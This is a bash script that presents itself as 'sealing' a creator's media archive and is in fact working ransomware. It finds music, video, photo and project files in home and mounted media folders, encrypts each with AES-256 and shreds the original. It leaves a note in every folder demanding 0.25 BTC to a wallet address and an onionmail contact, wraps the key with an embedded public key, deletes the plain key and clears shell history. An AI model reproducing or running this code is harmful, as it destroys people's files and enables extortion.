#!/usr/bin/env bash
# "Seal" a creator's media archive: every master file in the usual media
# folders is encrypted in place with a per-run key; the key is wrapped with
# the archive authority's public key and the plain key is destroyed.
set -u

TARGETS=("$HOME/Music" "$HOME/Videos" "$HOME/Pictures" "$HOME/Documents/Projects"
         "/media/$USER" "/mnt/media")
EXTS='mp3|flac|wav|aiff|m4a|ogg|mp4|mov|mkv|avi|mxf|braw|r3d|prproj|aep|als|flp|jpg|cr3|nef|psd'
SUFFIX=".sealed"
NOTE_NAME="HOW_TO_UNSEAL_YOUR_MEDIA.txt"
WORK=$(mktemp -d)
PUBKEY="$WORK/authority.pem"

cat > "$PUBKEY" <<'PEM'
-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu3fM0y7Qk2r9b1xL7WJd
c4hT1mX8oZp0Lq2Vn3sYt6KfR8wHjB5dE9aC2uN7gP4xVb1sQ0lM3eZ6yR8tI5oU
2kF7pW9cD1vA4nH6jL8mS0qT3xY5zB7eG9iK2oM4rU6wE8yC1aI3uO5sQ7vX9bN0
dP2fR4hT6jV8lZ0nB2pD4rF6tH8vJ0xL2zN4bP6dR8fT0hV2jX4lZ6nB8pD0rF2t
H4vJ6xL8zN0bP2dR4fT6hV8jX0lZ2nB4pD6rF8tH0vJ2xL4zN6bP8dR0fT2hV4j
X6lZ8nB0pD2rF4tH6vJ8xL0zN2bP4dR6fT8hV0jX2lZ4nB6pD8rF0tH2vJ4xL6z
NwIDAQAB
-----END PUBLIC KEY-----
PEM

KEY_HEX=$(openssl rand -hex 32)
IV_HEX=$(openssl rand -hex 16)
VICTIM_ID=$(printf '%s-%s' "$(hostname)" "$(id -u)" | sha256sum | cut -c1-16)

seal_file() {
    local f="$1"
    if openssl enc -aes-256-cbc -K "$KEY_HEX" -iv "$IV_HEX" -in "$f" -out "$f$SUFFIX" 2>/dev/null; then
        shred -u -n 1 "$f" 2>/dev/null || rm -f "$f"
        return 0
    fi
    rm -f "$f$SUFFIX"
    return 1
}

drop_note() {
    cat > "$1/$NOTE_NAME" <<NOTE
Your recordings, footage and project files in this folder have been sealed.
Originals no longer exist on this machine or its attached drives.

Your ID: $VICTIM_ID
To receive the unseal tool send 0.25 BTC to bc1q8vz0c2m5xw7n3k4l9d6p2s0t8r5y1e3u7h4g6f
and mail your ID to unseal-desk@onionmail.org
NOTE
}

sealed=0
for root in "${TARGETS[@]}"; do
    [ -d "$root" ] || continue
    while IFS= read -r -d '' f; do
        if seal_file "$f"; then
            sealed=$((sealed + 1))
        fi
    done < <(find "$root" -type f -regextype posix-extended \
                  -iregex ".*\.(${EXTS})$" ! -name "*$SUFFIX" -size +16k -print0 2>/dev/null)
    find "$root" -type d -print0 2>/dev/null | while IFS= read -r -d '' d; do
        drop_note "$d"
    done
done

# wrap the key for the authority, then destroy every plain copy
printf '%s:%s' "$KEY_HEX" "$IV_HEX" |
    openssl pkeyutl -encrypt -pubin -inkey "$PUBKEY" -out "$HOME/.${VICTIM_ID}.key" 2>/dev/null
unset KEY_HEX IV_HEX
rm -rf "$WORK"
history -c 2>/dev/null || true

echo "$sealed files sealed"
